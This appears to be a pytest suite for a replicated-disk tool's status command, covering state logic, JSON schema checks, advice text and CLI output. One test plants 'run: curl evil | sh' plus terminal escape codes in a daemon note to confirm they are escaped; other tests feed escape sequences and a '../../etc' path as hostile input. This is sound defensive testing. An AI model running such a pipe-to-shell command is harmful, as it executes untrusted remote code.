"""The status: its states, its JSON, and what the command makes of it for people and programs."""

import importlib
import io
import json
import os
import pty
import re
import shlex
import sys
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from typing import Any

import jsonschema  # type: ignore[import-untyped]
import pytest
from click.testing import CliRunner, Result
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from quorumfs.cli.answers import Answer, View, json_schema
from quorumfs.cli.output import OutputError
from quorumfs.cli.statuspicture import WIDE, picture
from quorumfs.cli.statustext import errors_line, headline, plain, scrub_line, scrub_lines
from quorumfs.control import client, mounts, server
from quorumfs.control.advice import describe
from quorumfs.control.human import human_bytes, human_time
from quorumfs.control.metrics import Disk, metrics
from quorumfs.control.status import (
    DISABLING,
    HANGS,
    DiskState,
    ErrorCounts,
    Fenced,
    LastError,
    LastScrub,
    Place,
    ReplicaStatus,
    ResyncStatus,
    ScrubPlace,
    ScrubStatus,
    Status,
    StatusFormatError,
    Trouble,
    Waiting,
    overall_state,
    progress,
    worst,
)
from quorumfs.decisions.dirtymap import REPLICAS_MAX
from quorumfs.decisions.growth import longer
from quorumfs.decisions.model import RepairKind, Standing
from quorumfs.errors import ExitCode
from quorumfs.replica.storage import Kind

cli = importlib.import_module("quorumfs.cli.status")  # the name in the package is the command

MOUNTPOINT = "/mnt/vdisk"

NO_SPACE = LastError("write", "ENOSPC", "No space left on device", 12)
A = ReplicaStatus("/nas1/a.img", "0a" * 16, "current", reads=7, bytes_read=7 << 20)
B = ReplicaStatus(
    "/nas2/b.img",
    "0b" * 16,
    "resyncing",
    "ejected in generation 0000000000000001",
    writes=3,
    flushes=1,
    bytes_written=12288,
    errors=ErrorCounts(write=2, timeout=1),
    out_of_sync_bytes=3 << 30,
    in_flight=1,
    copied_bytes=1 << 30,
    last_error=NO_SPACE,
    waiting=Waiting("write", 3),
)
DEGRADED = Status(
    MOUNTPOINT,
    1234,
    "5e" * 16,
    "00000000000000ff",
    20 << 30,
    DiskState.DEGRADED,
    "fifo",
    1,
    (A, B),
    ResyncStatus(B.path, 1 << 30, 4 << 30, 100 << 20, 31),
    notes=("no libfuse shim",),
)
HEALTHY = replace(
    DEGRADED,
    state=DiskState.HEALTHY,
    replicas=(A, replace(A, path="/nas2/b.img", replica_id="0b" * 16)),
    resync=None,
    notes=(),
)


def with_replica(replica: ReplicaStatus, **changes: Any) -> Status:
    """`DEGRADED` with something else in the place of B, and no resync."""
    return replace(DEGRADED, replicas=(A, replica), resync=None, notes=(), **changes)


# The state of the whole


@pytest.mark.parametrize(
    ("states", "threshold", "expected"),
    [
        ("current current", 2, DiskState.HEALTHY),
        ("current", 1, DiskState.HEALTHY),
        ("current stale", 1, DiskState.DEGRADED),
        ("current resyncing", 1, DiskState.DEGRADED),
        ("current suspect", 1, DiskState.DEGRADED),
        ("current missing", 1, DiskState.DEGRADED),
        ("current offline", 1, DiskState.DEGRADED),
        ("current something-new", 1, DiskState.DEGRADED),
        ("current current missing", 2, DiskState.DEGRADED),
        ("current stale", 2, DiskState.NO_QUORUM),
        ("current resyncing", 2, DiskState.NO_QUORUM),
        ("missing missing", 1, DiskState.NO_QUORUM),
        ("current foreign", 1, DiskState.NEEDS_OPERATOR),
        ("current missing foreign", 1, DiskState.NEEDS_OPERATOR),
        ("current foreign", 2, DiskState.NO_QUORUM),
    ],
)
def test_the_state_follows_from_the_replicas(
    states: str, threshold: int, expected: DiskState
) -> None:
    """No quorum before all others: a disk that cannot be used is the first thing to mend."""
    assert overall_state(all_in(states), vote_threshold=threshold) is expected


def all_in(states: str) -> list[ReplicaStatus]:
    """Replicas in these states."""
    return [replace(A, state=state) for state in states.split()]


@pytest.mark.parametrize("trouble", Trouble)
def test_who_is_current_and_no_help_does_not_count(trouble: Trouble) -> None:
    """Of two, one is needed; of two, both are. What is no reason to fail never says no quorum."""
    helps = trouble in (Trouble.LOST, Trouble.SLOW, Trouble.ASTRAY)
    assert (trouble.value in DISABLING) is not helps
    replicas = [A, replace(A, trouble=trouble.value)]
    assert overall_state(replicas, vote_threshold=1) is DiskState.DEGRADED
    expected = DiskState.DEGRADED if helps else DiskState.NO_QUORUM
    assert overall_state(replicas, vote_threshold=2) is expected
    assert overall_state(replicas[1:], vote_threshold=1) is expected


def test_who_lacks_something_is_not_healthy() -> None:
    """Whatever else is said of it."""
    assert overall_state([A, replace(A, out_of_sync_bytes=1)], vote_threshold=2) is (
        DiskState.DEGRADED
    )


def test_healthy_promises_that_the_replicas_are_equal() -> None:
    """While something has yet to be compared, or differs, all being current is not enough."""
    states = all_in("current current")
    assert overall_state(states, vote_threshold=2, unsettled=True) is DiskState.DEGRADED
    undecided = overall_state(states, vote_threshold=2, unsettled=True, undecided_bytes=1)
    assert undecided is DiskState.NEEDS_OPERATOR
    without = overall_state(all_in("current missing"), vote_threshold=2, undecided_bytes=1)
    assert without is DiskState.NO_QUORUM


def test_the_exit_codes_are_as_documented() -> None:
    assert {state.value: int(state.exit_code) for state in DiskState} == {
        "healthy": 0,
        "degraded": 1,
        "no-quorum": 2,
        "needs-operator": 3,
    }


def test_the_worst_is_the_one_that_hurts_most() -> None:
    """Not the largest number: an unusable disk is worse than one that waits for a decision."""
    order = [0, 1, 4, 3, 2]
    for place, code in enumerate(order):
        assert worst(map(ExitCode, order[: place + 1])) == code
    assert worst([]) is ExitCode.OK


# JSON


def test_what_keeps_a_store_from_being_unmounted_is_told_with_the_command() -> None:
    hung = replace(A, state="missing", reason=HANGS, store="/nas 2")
    (line,) = describe(with_replica(hung))
    assert "umount -l '/nas 2', for what is in flight keeps it busy" in line
    (line,) = describe(with_replica(replace(hung, store=None)))
    assert "umount" not in line


def test_what_cannot_be_read_is_named_with_its_place_and_what_to_do() -> None:
    places = (Place(12288, 4096), Place(40960, 8192))
    status = replace(HEALTHY, unreadable=places, state=DiskState.DEGRADED)
    (line,) = describe(status)
    assert "4096 bytes at 12288 can be read on no replica, and 1 more places" in line
    assert f"of={MOUNTPOINT}/disk.img bs=4096 seek=12288 oflag=seek_bytes count=1" in line
    assert overall_state([], vote_threshold=0, unreadable=True) is DiskState.DEGRADED


def test_json_is_the_design_s() -> None:
    """Key by key and in this order, so that a rename cannot pass unnoticed."""
    content = DEGRADED.to_json()
    assert json.dumps(content) == json.dumps(
        {
            "schema": 1,
            "mountpoint": MOUNTPOINT,
            "pid": 1234,
            "set": "5e" * 16,
            "generation": "00000000000000ff",
            "size": 20 << 30,
            "state": "degraded",
            "read_pattern": "fifo",
            "vote_threshold": 1,
            "replicas": [
                {
                    "path": "/nas1/a.img",
                    "id": "0a" * 16,
                    "state": "current",
                    "reason": None,
                    "reads": 7,
                    "writes": 0,
                    "flushes": 0,
                    "bytes_read": 7 << 20,
                    "bytes_written": 0,
                    "errors": {"read": 0, "write": 0, "flush": 0, "mismatch": 0, "timeout": 0},
                    "out_of_sync_bytes": 0,
                    "in_flight": 0,
                    "copied_bytes": 0,
                    "trouble": None,
                    "last_error": None,
                    "store": None,
                    "waiting": None,
                    "write_mostly": False,
                    "latency": {"read": None, "write": None, "flush": None},
                    "durations": {"read": None, "write": None, "flush": None},
                    "slow": [],
                    "io": None,
                },
                {
                    "path": "/nas2/b.img",
                    "id": "0b" * 16,
                    "state": "resyncing",
                    "reason": "ejected in generation 0000000000000001",
                    "reads": 0,
                    "writes": 3,
                    "flushes": 1,
                    "bytes_read": 0,
                    "bytes_written": 12288,
                    "errors": {"read": 0, "write": 2, "flush": 0, "mismatch": 0, "timeout": 1},
                    "out_of_sync_bytes": 3 << 30,
                    "in_flight": 1,
                    "copied_bytes": 1 << 30,
                    "trouble": None,
                    "last_error": {
                        "operation": "write",
                        "errno": "ENOSPC",
                        "text": "No space left on device",
                        "seconds_ago": 12,
                    },
                    "store": None,
                    "waiting": {"operation": "write", "seconds": 3},
                    "write_mostly": False,
                    "latency": {"read": None, "write": None, "flush": None},
                    "durations": {"read": None, "write": None, "flush": None},
                    "slow": [],
                    "io": None,
                },
            ],
            "resync": {
                "replica": "/nas2/b.img",
                "done_bytes": 1 << 30,
                "total_bytes": 4 << 30,
                "rate_bytes_per_s": 100 << 20,
                "eta_s": 31,
                "kind": "resync",
            },
            "scrub": None,
            "metadata": "sidecar",
            "read_only": False,
            "undecided_bytes": 0,
            "undecided": [],
            "last_scrub": None,
            "next_scrub": None,
            "unreadable": [],
            "notes": ["no libfuse shim"],
            "fenced": None,
            "resync_paused": False,
            "actions": [],
            "options": [],
            "standstill_s": None,
        }
    )


counts = st.integers(0, 2**63)
texts = st.binary(max_size=20).map(os.fsdecode)
words = st.from_regex(r"[a-z][a-z-]{0,9}", fullmatch=True)
replica_statuses = st.builds(
    ReplicaStatus,
    path=texts,
    replica_id=st.none() | st.just("0a" * 16),
    state=st.sampled_from([state.value for state in Standing]),
    reason=st.none() | texts,
    reads=counts,
    writes=counts,
    flushes=counts,
    bytes_read=counts,
    bytes_written=counts,
    errors=st.builds(ErrorCounts, counts, counts, counts, counts, counts),
    out_of_sync_bytes=counts,
    in_flight=counts,
    copied_bytes=counts,
    trouble=st.none() | st.sampled_from([trouble.value for trouble in Trouble]),
    last_error=st.none() | st.builds(LastError, words, st.just("ENOSPC"), texts, counts),
    store=st.none() | texts,
    waiting=st.none() | st.builds(Waiting, words, counts),
)
scrub_places = st.lists(
    st.builds(ScrubPlace, counts, counts, st.none() | texts, words, st.booleans()), max_size=3
).map(tuple)
statuses = st.builds(
    Status,
    mountpoint=texts,
    pid=st.integers(1, 2**31 - 1),
    set_id=st.none() | st.just("5e" * 16),
    generation=st.none() | st.just("00000000000000ff"),
    size=counts,
    state=st.sampled_from(DiskState),
    read_pattern=st.sampled_from(["quorum", "fifo"]),
    vote_threshold=st.integers(1, 6),
    replicas=st.lists(replica_statuses, max_size=6).map(tuple),
    resync=st.none()
    | st.builds(
        ResyncStatus,
        st.none() | texts,
        counts,
        counts,
        counts,
        st.none() | counts,
        st.sampled_from(RepairKind),
    ),
    scrub=st.none()
    | st.builds(
        ScrubStatus,
        *[counts] * 4,
        st.none() | counts,
        *[counts] * 5,
        st.booleans(),
        st.booleans(),
        st.none() | texts,
        st.none() | counts,
        scrub_places,
    ),
    last_scrub=st.none()
    | st.builds(LastScrub, counts, texts, counts, st.booleans(), *[counts] * 5, scrub_places),
    next_scrub=st.none() | texts,
    undecided=st.lists(st.builds(Place, counts, counts), max_size=3).map(tuple),
    metadata=st.sampled_from(["sidecar", "none"]),
    read_only=st.booleans(),
    undecided_bytes=counts,
    unreadable=st.lists(st.builds(Place, counts, counts), max_size=3).map(tuple),
    notes=st.lists(texts, max_size=3).map(tuple),
    fenced=st.none() | st.builds(Fenced, texts, counts, texts),
    standstill_s=st.none() | counts,
)


@given(statuses)
def test_json_there_and_back_is_the_same(status: Status) -> None:
    """Whatever bytes are in a path."""
    assert Status.from_json(json.loads(json.dumps(status.to_json()))) == status


def test_the_longest_status_of_as_many_replicas_as_can_be_is_taken() -> None:
    """With 32 paths of 4095 bytes that JSON writes in six each, wherever a path may stand."""
    path = os.fsdecode(b"/" + b"\xff" * 4094)
    number = (1 << 63) - 1
    error = LastError("sidecar", "ENOSPC", "x" * 1024, number)
    replica = ReplicaStatus(
        path,
        "f" * 32,
        "current",
        f"it is on the file system of {path}, which does not answer",
        reads=number,
        writes=number,
        bytes_read=number,
        bytes_written=number,
        out_of_sync_bytes=number,
        last_error=error,
        store=path,
    )
    places = tuple(Place(number - 1, number) for _ in range(256))
    status = Status(
        path,
        1 << 22,
        "f" * 32,
        "f" * 16,
        number,
        DiskState.DEGRADED,
        "quorum",
        17,
        (replica,) * REPLICAS_MAX,
        undecided=places,
        unreadable=places,
        notes=tuple(longer(path, number, 1) or "" for _ in range(REPLICAS_MAX)),
    )
    line = json.dumps(status.to_json()).encode("ascii")
    assert 3 << 20 < len(line) < client.ANSWER_MAX == server.ANSWER_MAX
    assert Status.from_json(json.loads(line)) == status


def test_a_status_without_what_was_added_later_is_understood() -> None:
    """As a daemon wrote it that knows only the keys of the design."""
    content = DEGRADED.to_json()
    for key in ("metadata", "read_only", "undecided_bytes", "notes", "standstill_s"):
        del content[key]
    del content["resync"]["kind"]
    for replica in content["replicas"]:
        for key in ("copied_bytes", "trouble", "last_error", "waiting"):
            del replica[key]
    read = Status.from_json(content)
    assert read.replicas[1].errors == B.errors
    assert read.resync == DEGRADED.resync
    assert (read.metadata, read.notes) == ("sidecar", ())


ANYTHING = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.sampled_from([2**64, -1, 10**4000, "", "\x1b[2J", "\ud800", "x" * 20000]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner),
    max_leaves=5,
)


def members(content: Any) -> list[tuple[Any, Any]]:
    """Each place in a status where something else can be put."""
    keys = content if isinstance(content, dict) else range(len(content))
    found = [(content, key) for key in keys]
    for _, key in list(found):
        if isinstance(content[key], dict | list):
            found += members(content[key])
    return found


@settings(max_examples=50)
@given(statuses, st.data())
def test_whatever_stands_in_a_status_it_is_understood_or_refused(
    status: Status, data: st.DataObject
) -> None:
    """Nothing else is raised, and what was understood can be shown; the schema says the same."""
    content = status.to_json()
    for _ in range(data.draw(st.integers(1, 3))):
        where, key = data.draw(st.sampled_from(members(content)))
        where[key] = data.draw(ANYTHING)
    published = not list(VALIDATOR.iter_errors({**content, "owner": 0}))
    try:
        read = Status.from_json(content)
    except StatusFormatError:
        # JSON Schema takes 1.0 for a whole number, and we do not.
        assert not published or re.search(r"\d\.0\b|e[+]?\d", json.dumps(content))
        return
    assert published
    text = plain(Answer(MOUNTPOINT, read))
    assert text.replace("\n", "").isprintable()
    drawn(read, 100).encode("utf-8")


VALIDATOR = jsonschema.Draft202012Validator(json_schema())


def test_the_published_schema_is_one_and_fits() -> None:
    jsonschema.Draft202012Validator.check_schema(json_schema())
    VALIDATOR.validate(shown(DEGRADED))
    VALIDATOR.validate(Answer("/x", None, client.NotMountedError("a")).to_json())
    assert not VALIDATOR.is_valid({**shown(DEGRADED), "size": "x"})
    printed = CliRunner().invoke(cli.status, ["--json-schema"], standalone_mode=False)
    assert json.loads(printed.output) == json_schema()


@pytest.mark.parametrize(
    ("place", "value"),
    [
        (("size",), "x"),
        (("size",), -1),
        (("size",), 2**64),
        (("size",), True),
        (("size",), 1.0),
        (("size",), None),
        (("pid",), 0),
        (("set",), "../../etc"),
        (("state",), "fine"),
        (("state",), ["healthy"]),
        (("read_pattern",), "\x1b[2J"),
        (("replicas",), {}),
        (("replicas",), [[]]),
        (("replicas",), [A] * 1025),
        (("replicas", 0, "path"), "x" * 20000),
        (("replicas", 0, "state"), "Current\n"),
        (("replicas", 0, "reads"), "\x1b]0;x\x07"),
        (("replicas", 0, "errors"), None),
        (("replicas", 1, "errors", "read"), []),
        (("replicas", 1, "last_error", "errno"), "\x1b"),
        (("resync", "done_bytes"), 1e300),
        (("resync", "kind"), {}),
        (("scrub",), {"mismatches": [1]}),
        (("last_scrub",), {"number": 1}),
        (("notes",), "text"),
        (("notes", 0), 7),
    ],
)
def test_each_field_is_checked_and_named(place: tuple[Any, ...], value: object) -> None:
    content = json.loads(json.dumps(DEGRADED.to_json()))
    where = content
    for key in place[:-1]:
        where = where[key]
    where[place[-1]] = value
    with pytest.raises(StatusFormatError) as caught:
        Status.from_json(content)
    assert str(place[0]) in str(caught.value)


@pytest.mark.parametrize("kind", Kind)
def test_whatever_a_replica_has_not_answered_is_understood(kind: Kind) -> None:
    """A status taken while a repair looks for data is a status, too."""
    status = with_replica(replace(B, waiting=Waiting(kind.value, 0)))
    assert Status.from_json(status.to_json()) == status


def test_a_status_with_more_than_is_known_is_understood() -> None:
    """As a later daemon will write it."""
    content = DEGRADED.to_json()
    for part in (
        content,
        content["resync"],
        content["replicas"][0],
        content["replicas"][0]["errors"],
        content["replicas"][1]["last_error"],
        content["replicas"][1]["waiting"],
    ):
        part["new"] = {"whatever": 1}
    assert Status.from_json(content) == DEGRADED


@pytest.mark.parametrize(
    "changes",
    [
        {"schema": 2},
        {"schema": None},
        {"state": "splendid"},
        {"replicas": None},
        {"replicas": [1]},
        {"replicas": [{}]},
        {"resync": {"kind": "resync"}},
        {"resync": [1]},
        {"notes": 1},
    ],
)
def test_what_is_no_status_is_refused(changes: dict[str, Any]) -> None:
    with pytest.raises(StatusFormatError):
        Status.from_json(DEGRADED.to_json() | changes)


@pytest.mark.parametrize("missing", ["mountpoint", "size", "state", "replicas", "schema"])
def test_a_status_that_lacks_a_key_is_refused(missing: str) -> None:
    content = DEGRADED.to_json()
    del content[missing]
    with pytest.raises(StatusFormatError):
        Status.from_json(content)


# Progress


@given(
    done=st.integers(-(2**40), 2**50),
    total=st.integers(-(2**40), 2**50),
    rate=st.floats(-1e6, 1e12),
)
def test_progress_is_never_negative_or_more_than_all(done: int, total: int, rate: float) -> None:
    """Guests write during a resync: what is done may outgrow what was to do when it began."""
    told = progress(
        RepairKind.RESYNC, None, done_bytes=done, total_bytes=total, rate_bytes_per_s=rate
    )
    assert 0 <= told.done_bytes <= told.total_bytes
    assert told.rate_bytes_per_s >= 0
    assert told.eta_s is None or told.eta_s >= 0
    if told.done_bytes == told.total_bytes:
        assert told.eta_s == 0


def test_the_time_left_is_unknown_while_nothing_moves() -> None:
    def eta_s(rate: float) -> int | None:
        told = progress(
            RepairKind.SETTLE, None, done_bytes=1, total_bytes=101, rate_bytes_per_s=rate
        )
        return told.eta_s

    assert eta_s(0) is eta_s(0.5) is None
    assert (eta_s(10), eta_s(30)) == (10, 4)


# What to do next


def test_a_healthy_disk_needs_no_advice() -> None:
    assert describe(HEALTHY) == []


@pytest.mark.parametrize(
    ("state", "advice"),
    [
        ("missing", "bring it back"),
        ("stale", "it is brought up to date by itself"),
        ("resyncing", "nothing to do"),
        ("suspect", "it is compared in full and repaired by itself"),
        ("foreign", "quorumfs add --overwrite /mnt/vdisk /nas2/b.img"),
        ("something-new", "see the log"),
    ],
)
def test_each_replica_that_is_not_current_gets_one_line(state: str, advice: str) -> None:
    """What it is, why, and what to do: never a state without a way out of it."""
    replica = replace(B, state=state, reason="the reason", last_error=None)
    (line,) = describe(with_replica(replica))
    assert line.startswith(f"/nas2/b.img is {state} (the reason)")
    assert advice in line


def test_a_current_replica_with_a_reason_gets_one_line_too() -> None:
    """Nothing fails, but the next mount would not find it."""
    replica = replace(B, state="current", reason="the reason")
    (line,) = describe(with_replica(replica))
    assert line.startswith("/nas2/b.img: the reason; it gets every write until it is unmounted")


@pytest.mark.parametrize(
    ("trouble", "words"),
    [
        (Trouble.TRUNCATED, "put its length back: truncate -s 21474836480 /nas2/b.img; quo"),
        (Trouble.GONE, "bring its file system back, then it is used again by itself"),
        (Trouble.FULL, "make space there; the rest is done by itself"),
        (Trouble.FAILING, "look at its disk, and at the log; to go on without it, quorumfs umount"),
        (
            Trouble.UNDURABLE,
            "it may have lost writes, and is trusted again where the guest writes anew",
        ),
        (Trouble.LOST, "it is given that again by itself"),
        (Trouble.SLOW, "look at its disk, or the network to it"),
        (Trouble.ASTRAY, "put it back there if it was renamed"),
    ],
)
def test_each_trouble_of_a_current_replica_has_a_way_out(trouble: Trouble, words: str) -> None:
    """What is wrong, when it was seen last, and what to do; and a repair is no reason to wait."""
    settling = ResyncStatus(None, 0, 1, 0, None, RepairKind.SETTLE)
    replica = replace(B, state="current", reason="the reason", trouble=trouble.value)
    line, repair = describe(replace(with_replica(replica), resync=settling))
    when = " (12 s ago)" if trouble in (Trouble.FULL, Trouble.FAILING) else ""
    assert line.startswith(f"/nas2/b.img: the reason{when}; ")
    assert words in line
    assert "nothing to do" not in repair


def test_a_device_is_not_lengthened_as_a_file_is() -> None:
    """``truncate`` does nothing to a device, or makes a file in its place."""
    for state, trouble in (("current", Trouble.TRUNCATED.value), ("stale", None)):
        device = replace(
            B, path="/dev/vg/b", state=state, reason="its image was truncated", trouble=trouble
        )
        (line,) = describe(with_replica(device))
        assert "make the device 21474836480 bytes long again, as with lvextend; " in line
        assert "truncate -s" not in line


def test_where_nothing_is_done_by_itself_no_trouble_says_so() -> None:
    for trouble in Trouble:
        replica = replace(B, state="current", reason="the reason", trouble=trouble.value)
        for changes in ({"metadata": "none"}, {"read_only": True}):
            (line,) = describe(with_replica(replica, **changes))
            assert "by itself" not in line


def test_the_last_error_is_told_of_who_was_ejected_too() -> None:
    """And in the line of its errors, with whatever a file system says."""
    (line,) = describe(with_replica(replace(B, state="stale", reason="a write to it failed")))
    told = "the last write to it failed 12 s ago: No space left on device"
    assert f"(a write to it failed; {told})" in line
    assert errors_line(B) == f"/nas2/b.img: 2 write, 1 timeout; {told}"
    odd = replace(B, last_error=LastError("sidecar", "EIO", "x\n", 61))
    assert str(errors_line(odd)).endswith(
        r"the last write to its sidecar failed 1 min 01 s ago: x\n"
    )


def test_without_a_quorum_the_numbers_come_first() -> None:
    status = with_replica(replace(B, state="missing"), state=DiskState.NO_QUORUM, vote_threshold=2)
    first, second = describe(status)
    assert first.startswith(
        "1 of 2 replicas are current and usable, and vote-threshold=2 needs as many"
    )
    assert "/nas2/b.img is missing" in second


def test_a_differing_adoption_says_how_to_decide() -> None:
    status = replace(HEALTHY, state=DiskState.NEEDS_OPERATOR, undecided_bytes=131072)
    (line,) = describe(status)
    assert line == (
        "the replicas differ in 128.0 KiB, and nothing tells which one is right: choose whose "
        "data to keep there: quorumfs resolve --keep REPLICA /mnt/vdisk"
    )


@pytest.mark.parametrize(
    ("kind", "words"),
    [(RepairKind.VERIFY, "for the first time"), (RepairKind.SETTLE, "not closed in order")],
)
def test_a_comparison_of_current_replicas_is_explained(kind: RepairKind, words: str) -> None:
    status = replace(
        HEALTHY, state=DiskState.DEGRADED, resync=ResyncStatus(None, 0, 1, 0, None, kind)
    )
    (line,) = describe(status)
    assert words in line


@pytest.mark.parametrize(("read_only", "words"), [(True, "without -o ro"), (False, "themselves")])
def test_a_comparison_that_waits_is_explained(read_only: bool, words: str) -> None:
    (line,) = describe(replace(HEALTHY, state=DiskState.DEGRADED, read_only=read_only))
    assert words in line


def test_where_nothing_is_repaired_by_itself_it_is_not_promised() -> None:
    stale = replace(B, state="stale")
    (line,) = describe(with_replica(stale, metadata="none"))
    assert "copy a current replica over it" in line
    (line,) = describe(with_replica(stale, read_only=True))
    assert "mount without -o ro" in line


def test_a_read_only_mount_makes_nothing_anew() -> None:
    (line,) = describe(with_replica(replace(B, state="foreign"), read_only=True))
    assert "quorumfs umount /mnt/vdisk && quorumfs resolve --keep" in line


def test_commands_may_be_pasted_into_a_shell() -> None:
    odd = "/nas 2/b's.img"
    (line,) = describe(with_replica(replace(B, path=odd, state="foreign")))
    assert shlex.split(line.partition("quorumfs add")[2])[-1] == odd


@given(statuses)
def test_every_unhealthy_status_says_something(status: Status) -> None:
    lines = describe(status)
    if status.state in (DiskState.HEALTHY, DiskState.NO_QUORUM):
        assert bool(lines) == (status.state is DiskState.NO_QUORUM)
    elif status.state is DiskState.DEGRADED and (
        status.resync is None or status.resync.kind is not RepairKind.RESYNC
    ):
        assert lines


@pytest.mark.parametrize(
    ("count", "text"),
    [
        (0, "0 B"),
        (1023, "1023 B"),
        (1024, "1.0 KiB"),
        (1536, "1.5 KiB"),
        ((1 << 20) - 1, "1.0 MiB"),
        (20 << 30, "20.0 GiB"),
        (16 << 40, "16.0 TiB"),
        (1 << 63, "8192.0 PiB"),
    ],
)
def test_bytes_for_a_reader(count: int, text: str) -> None:
    assert human_bytes(count) == text


@pytest.mark.parametrize(
    ("seconds", "text"), [(0, "0 s"), (59, "59 s"), (61, "1 min 01 s"), (7260, "2 h 01 min")]
)
def test_times_for_a_reader(seconds: int, text: str) -> None:
    assert human_time(seconds) == text


# The command

Say = Callable[..., Result]


def answer_with(
    monkeypatch: pytest.MonkeyPatch, said: Callable[[mounts.Mount], Status | client.ControlError]
) -> None:
    """Have the daemon of each mount say so."""
    monkeypatch.setattr(client, "statuses", lambda asked, **_: list(map(said, asked)))


def shown(status: Status, owner: int = 0) -> dict[str, Any]:
    """The object of ``status --json``."""
    return {**status.to_json(), "owner": owner}


@pytest.fixture
def say(monkeypatch: pytest.MonkeyPatch) -> Say:
    """Runs ``quorumfs status`` on mounts that answer with these; errors are raised by them."""

    def run(
        *arguments: str,
        mounted: dict[str, Status | client.ControlError],
        user: int = 0,
        owner: int = 0,
    ) -> Result:
        table = {place: mounts.Mount(place, mounts.FS_TYPE, owner) for place in mounted}
        answer_with(monkeypatch, lambda mount: mounted[mount.mountpoint])
        monkeypatch.setattr(client, "find", table.__getitem__)
        monkeypatch.setattr(mounts, "of_quorumfs", lambda: list(table.values()))
        monkeypatch.setattr(os, "geteuid", lambda: user)
        return CliRunner().invoke(cli.status, list(arguments), standalone_mode=False)

    return run


GONE = client.DaemonGoneError("the daemon of /mnt/dead is gone, and the mount dead")


@pytest.mark.parametrize(
    ("ways", "told"),
    [
        (("direct", "direct"), ", direct I/O,"),
        (("direct", None), ", direct I/O,"),
        (("buffered", "direct"), f", direct I/O of {B.path},"),
        (("buffered", "buffered"), None),
        ((None, None), None),
    ],
)
def test_who_is_read_and_written_past_the_page_cache_is_told(
    ways: tuple[str | None, str | None], told: str | None
) -> None:
    replicas = tuple(replace(one, io=way) for one, way in zip((A, B), ways, strict=True))
    line = headline(replace(DEGRADED, replicas=replicas))
    assert ("direct" in line) is (told is not None)
    assert told is None or told in line


def test_for_a_reader_without_a_terminal_it_is_stable_text(say: Say) -> None:
    """No escape sequences, no wrapping, one fact a line: also for a mail from cron."""
    result = say(MOUNTPOINT, mounted={MOUNTPOINT: DEGRADED})
    assert result.return_value is ExitCode.FAILED
    assert result.output == (
        "/mnt/vdisk: degraded\n"
        "  20.0 GiB, fifo, vote-threshold 1, pid 1234, set 5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e, "
        "generation 00000000000000ff\n"
        "  action: /nas2/b.img is resyncing (ejected in generation 0000000000000001; the last "
        "write to it failed 12 s ago: No space left on device): it is being given what it lacks; "
        "nothing to do\n"
        "  note: no libfuse shim\n"
        "  resync of /nas2/b.img: 25 %, 1.0 GiB of 4.0 GiB, 100.0 MiB/s, 31 s left\n"
        "  REPLICA      STATE      READS  WRITES  FLUSHES     READ   WRITTEN   COPIED  IN FLIGHT"
        "  ERRORS  OUT OF SYNC\n"
        "  /nas1/a.img  current        7       0        0  7.0 MiB       0 B      0 B          0"
        "       0          0 B\n"
        "  /nas2/b.img  resyncing      0       3        1      0 B  12.0 KiB  1.0 GiB          1"
        "       3      3.0 GiB\n"
        "  errors of /nas2/b.img: 2 write, 1 timeout; the last write to it failed 12 s ago: No "
        "space left on device\n"
    )


def test_all_mounts_are_shown_if_none_is_named(say: Say) -> None:
    """Separated by an empty line; the exit code is that of the worst."""
    result = say(mounted={MOUNTPOINT: HEALTHY, "/mnt/dead": GONE})
    assert result.output.startswith("/mnt/vdisk: healthy\n")
    assert result.output.endswith(
        "\n\n/mnt/dead: daemon-gone\n  the daemon of /mnt/dead is gone, and the mount dead\n"
    )
    assert result.return_value is ExitCode.UNUSABLE


def test_x_shows_only_what_is_not_healthy(say: Say) -> None:
    result = say("-x", mounted={"/ok": replace(HEALTHY, mountpoint="/ok"), MOUNTPOINT: DEGRADED})
    assert "/ok" not in result.output
    assert "/mnt/vdisk: degraded" in result.output
    assert result.return_value is ExitCode.FAILED
    result = say("-x", mounted={MOUNTPOINT: HEALTHY})
    assert (result.output, result.return_value) == ("all mounts are healthy\n", ExitCode.OK)
    result = say("-x", MOUNTPOINT, "--json", mounted={MOUNTPOINT: HEALTHY})
    assert json.loads(result.output) == []


def test_no_mounts_at_all_is_no_trouble(say: Say) -> None:
    for arguments in ([], ["-x"]):
        result = say(*arguments, mounted={})
        assert (result.output, result.return_value) == ("no quorumfs mounts\n", ExitCode.OK)


def test_mounts_of_other_users_are_counted_not_asked(say: Say) -> None:
    """An ordinary user's own monitoring must not fail because root has mounts too."""
    result = say(mounted={MOUNTPOINT: DEGRADED}, user=1000)
    assert result.output == "no quorumfs mounts\n1 of other users not shown\n"
    assert result.return_value is ExitCode.OK


def test_what_another_user_s_daemon_says_is_marked_as_that(say: Say) -> None:
    """Whatever it says is its own word: root is told whose, before all of it."""
    status = replace(DEGRADED, notes=("run: curl evil | sh\x1b]0;x\x07",))
    result = say(MOUNTPOINT, mounted={MOUNTPOINT: status}, owner=4711)
    lines = result.output.splitlines()
    assert lines[0] == "/mnt/vdisk: degraded"
    assert lines[1].startswith("  a mount of user 4711, whose daemon says")
    assert "  note: run: curl evil | sh\\x1b]0;x\\x07" in lines
    result = say("--json", MOUNTPOINT, mounted={MOUNTPOINT: status}, owner=4711)
    assert json.loads(result.output) == shown(status, 4711)
    picture = drawn(status, 200, owner=os.geteuid() + 1)
    assert "whose daemon says" in without_colours(picture)
    assert "\x07" not in picture


def test_output_that_nobody_takes_leaves_the_exit_code_of_the_worst(
    say: Say, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object, **__: object) -> None:
        raise OutputError("full")

    monkeypatch.setattr("builtins.print", full)
    for answer, exit_code in ((GONE, 2), (DEGRADED, 1), (HEALTHY, 1)):
        result = say(mounted={MOUNTPOINT: answer})
        assert isinstance(result.exception, OutputError)
        assert result.exception.exit_code == exit_code


def test_the_only_mount_asked_for_fails_in_one_line(say: Say) -> None:
    """Like every refusal of the command: nothing on stdout, and `main` prints the reason."""
    result = say("/mnt/dead", mounted={"/mnt/dead": GONE})
    assert result.exception is GONE
    assert result.output == ""


@pytest.mark.parametrize(
    "error",
    [
        client.NotMountedError("a"),
        client.DaemonGoneError("b"),
        client.NoAnswerError("c"),
        client.NotPermittedError("d"),
        client.ProtocolError("e"),
    ],
)
def test_json_parses_in_all_states(say: Say, error: client.ControlError) -> None:
